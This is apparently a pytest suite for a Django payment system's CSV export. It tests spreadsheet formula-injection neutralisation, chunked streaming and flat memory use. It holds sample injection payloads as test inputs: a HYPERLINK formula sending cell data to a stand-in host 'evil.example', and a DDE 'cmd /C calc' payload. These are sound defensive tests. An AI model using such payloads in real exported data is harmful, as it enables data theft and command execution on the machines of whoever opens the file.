"""CSV export: cells safe to open in a spreadsheet, chunked streaming, memory flat in the number of rows."""

import csv
import gc
import io
import tracemalloc
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone as django_timezone

from deltran.export import FORMULA_TRIGGERS, csv_chunks, neutralise_cell, streaming_csv_response
from deltran.ids import uuid7
from payments.choices import PaymentStatus
from payments.models import Payment
from settlement.models import Bank, SettlementAccount
from tests.conftest import payment_body

EXPORT_URL = "/api/v1/export/payments"
INITIATE_URL = "/api/v1/payments/initiate"

# --- neutralise_cell -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "=1+2",
        "+1 555 0100",
        "+",
        "-2+3",
        "-",
        "@SUM(A1:A9)",
        "\tcmd",
        "\r=1",
        "==",
    ],
)
def test_a_cell_starting_with_a_formula_trigger_gets_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["Acme Trading LLC", "", "1=1", "a+b", "Invoice -5", "x@y.example", "'already quoted", "Ünïcode ✓", "\nline"],
)
def test_other_text_is_left_alone(text):
    assert neutralise_cell(text) == text


def test_the_triggers_are_the_documented_six():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_none_is_an_empty_cell():
    assert neutralise_cell(None) == ""


@pytest.mark.parametrize(
    "value, expected",
    [
        (Decimal("125000.50"), "125000.50"),
        (Decimal("-5.00"), "-5.00"),  # a number, not text: no quote
        (Decimal("1E+3"), "1000"),
        (Decimal("0.00000001"), "0.00000001"),
        (Decimal("1.2300"), "1.2300"),
        (Decimal("0"), "0"),
    ],
)
def test_decimals_are_plain_fixed_point(value, expected):
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize(
    "value, expected",
    [
        (datetime(2026, 11, 21, 8, 30, 5, 123456, tzinfo=UTC), "2026-11-21T08:30:05.123456Z"),
        (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05Z"),
        (datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone(timedelta(hours=4))), "2026-01-02T03:04:05+04:00"),
    ],
)
def test_datetimes_are_iso_8601_with_z_for_utc(value, expected):
    assert neutralise_cell(value) == expected


def test_other_values_are_their_text():
    value = uuid7()
    assert neutralise_cell(value) == str(value)
    assert neutralise_cell(42) == "42"


# --- csv_chunks ---------------------------------------------------------------------------------


def test_the_header_comes_first_and_alone():
    chunks = list(csv_chunks(["A", "B"], [], rows_per_chunk=2))
    assert chunks == [b"A,B\r\n"]


@pytest.mark.parametrize(
    "count, per_chunk, sizes", [(5, 2, [2, 2, 1]), (4, 2, [2, 2]), (1, 10, [1]), (3, 1, [1, 1, 1])]
)
def test_rows_come_in_chunks_of_rows_per_chunk(count, per_chunk, sizes):
    chunks = list(csv_chunks(["n"], ([n] for n in range(count)), rows_per_chunk=per_chunk))
    assert chunks[0] == b"n\r\n"
    assert all(isinstance(chunk, bytes) for chunk in chunks)
    assert [chunk.count(b"\r\n") for chunk in chunks[1:]] == sizes
    assert b"".join(chunks[1:]).decode().split("\r\n")[:-1] == [str(n) for n in range(count)]


def test_rows_are_pulled_lazily_one_chunk_at_a_time():
    pulled = []

    def rows():
        for n in range(10_000):
            pulled.append(n)
            yield [n]

    chunks = csv_chunks(["n"], rows(), rows_per_chunk=100)
    assert next(chunks) == b"n\r\n"
    assert pulled == []
    next(chunks)
    assert len(pulled) == 100
    next(chunks)
    assert len(pulled) == 200


def test_cells_are_neutralised_and_quoted_so_they_parse_back():
    rows = [["=1+2", "a,b", 'say "hi"', "two\nlines", Decimal("-1.50"), None]]
    text = b"".join(csv_chunks(["a", "b", "c", "d", "e", "f"], rows)).decode()
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[1] == ["'=1+2", "a,b", 'say "hi"', "two\nlines", "-1.50", ""]


def test_streaming_csv_response_is_a_download_of_the_chunks():
    response = streaming_csv_response(filename="x.csv", header=["a"], rows=[["=b"]])
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["Cache-Control"] == "no-store"
    assert b"".join(response.streaming_content) == b"a\r\n'=b\r\n"


# --- The export endpoint -------------------------------------------------------------------------


def bulk_payments(count: int, start: datetime | None = None, **fields) -> None:
    """Insert payments directly (no pipeline): what the export reads, quickly."""
    sender = Bank.objects.get(bic="ENBXAEADXXX")
    receiver = Bank.objects.get(bic="SBININBBXXX")
    sender_account = SettlementAccount.objects.get(bank=sender, currency_id="USD")
    receiver_account = SettlementAccount.objects.get(bank=receiver, currency_id="USD")
    start = start or django_timezone.now() - timedelta(days=1)
    Payment.objects.bulk_create(
        (
            Payment(
                id=uuid7(),
                payment_reference=f"BULK{n:010d}",
                end_to_end_id=f"E2E{n:010d}",
                sender_bank_id=sender.id,
                receiver_bank_id=receiver.id,
                sender_account_id=sender_account.id,
                receiver_account_id=receiver_account.id,
                sender_bic=sender.bic,
                receiver_bic=receiver.bic,
                amount=Decimal("1000.00") + n,
                currency_id="USD",
                settlement_currency_id="USD",
                settlement_amount=Decimal("1000.00") + n,
                debtor_name=fields.get("debtor_name", "Acme Trading LLC"),
                creditor_name=fields.get("creditor_name", "Mumbai Textiles Pvt Ltd"),
                remittance_info=fields.get("remittance_info", f"Invoice {n} for goods delivered under contract"),
                status=PaymentStatus.QUEUED,
                created_at=start + timedelta(milliseconds=n),
                updated_at=start + timedelta(milliseconds=n),
            )
            for n in range(count)
        ),
        batch_size=500,
    )


def read_export(client, query: str = "") -> list[dict]:
    response = client.get(EXPORT_URL + query)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_export_is_a_streamed_csv_download(scenario, operator_client):
    bulk_payments(3)
    response = operator_client.get(EXPORT_URL)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="payments.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert rows[0][:3] == ["Payment ID", "Reference", "End-to-end ID"]
    assert len(rows) == 4


def test_export_values_are_formatted_for_the_bank(scenario, operator_client):
    response = operator_client.post(INITIATE_URL, payment_body(), format="json")
    assert response.status_code == 201
    payment = Payment.objects.get()
    (row,) = read_export(operator_client)
    assert row["Payment ID"] == str(payment.id)
    assert row["Amount"] == "125000.50"
    assert row["Currency"] == "USD"
    assert row["Sender"] == "Emirates National Bank"
    assert row["Receiver"] == "State Bank of India"
    assert row["Created At"] == payment.created_at.isoformat().replace("+00:00", "Z")
    assert row["Created At"].endswith("Z")
    assert row["Settled At"] == ""


def test_formula_cells_reach_the_csv_neutralised(scenario, operator_client):
    dangerous = {
        "remittance_info": '=HYPERLINK("http://evil.example/steal?d="&A1,"Invoice")',
        "debtor_name": "+1 555 0100 Trading",
        "creditor_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    created = operator_client.post(INITIATE_URL, payment_body(**dangerous), format="json")
    assert created.status_code == 201, created.content
    minus = operator_client.post(
        INITIATE_URL, payment_body(debtor_name="-10 Corp", remittance_info="ok"), format="json"
    )
    assert minus.status_code == 201
    plain = operator_client.post(INITIATE_URL, payment_body(), format="json")
    assert plain.status_code == 201

    rows = {row["Payment ID"]: row for row in read_export(operator_client)}
    assert len(rows) == 3
    row = rows[created.json()["id"]]
    assert row["Remittance information"] == "'" + dangerous["remittance_info"]
    assert row["Debtor"] == "'" + dangerous["debtor_name"]
    assert row["Creditor"] == "'" + dangerous["creditor_name"]
    assert rows[minus.json()["id"]]["Debtor"] == "'-10 Corp"
    # Untouched: ordinary text, and numbers (the amount is not text).
    assert rows[plain.json()["id"]]["Debtor"] == "Acme Trading LLC"
    assert rows[plain.json()["id"]]["Remittance information"] == "Invoice 2026-114"
    assert row["Amount"] == "125000.50"
    # Stored as sent: neutralising is the export's job, not the database's.
    assert Payment.objects.get(pk=created.json()["id"]).debtor_name == dangerous["debtor_name"]


def test_tab_and_carriage_return_cells_are_neutralised(scenario, operator_client):
    # The API refuses control characters, but rows written by other channels may hold them.
    bulk_payments(1, debtor_name="\tcmd", remittance_info="\r=1+2")
    (row,) = read_export(operator_client)
    assert row["Debtor"] == "'\tcmd"
    assert row["Remittance information"] == "'\r=1+2"


def test_the_export_honours_the_list_filters(scenario, operator_client):
    bulk_payments(2)
    operator_client.post(INITIATE_URL, payment_body(sender_bic="LUMIILITXXX"), format="json")
    rows = read_export(operator_client, "?sender_bic=LUMIILITXXX")
    assert [row["Sender BIC"] for row in rows] == ["LUMIILITXXX"]


# --- Memory stays flat as the export grows --------------------------------------------------------

SMALL, LARGE = 2_000, 20_000


def export_peak(client) -> tuple[int, int, int]:
    """Lines received and the peak traced memory while requesting and consuming the streamed export."""
    gc.collect()
    tracemalloc.start()
    try:
        response = client.get(EXPORT_URL)
        lines = 0
        received = 0
        for chunk in response.streaming_content:
            lines += chunk.count(b"\r\n")
            received += len(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # No response.close() here: the test client's streaming wrapper has closed it once exhausted.
    return lines, peak, received


def test_export_memory_does_not_grow_with_the_row_count(scenario, operator_client):
    bulk_payments(SMALL)
    # Warm up (imports, URL resolver, participant directory) so the small run is not charged for them.
    assert len(read_export(operator_client)) == SMALL
    small_lines, small_peak, small_bytes = export_peak(operator_client)
    assert small_lines == SMALL + 1

    bulk_payments(LARGE - SMALL, start=django_timezone.now() - timedelta(days=2))
    large_lines, large_peak, large_bytes = export_peak(operator_client)
    assert large_lines == LARGE + 1

    # Ten times the rows and ten times the bytes, but not ten times the memory: it is streamed.
    # (Measured: the peak rises ~1.4x up to two database fetches of 2,000 rows, then stays flat;
    # building the whole file in memory would make it grow ~10x.)
    assert large_bytes > 9 * small_bytes
    assert large_peak <= 2 * small_peak, (small_peak, large_peak)
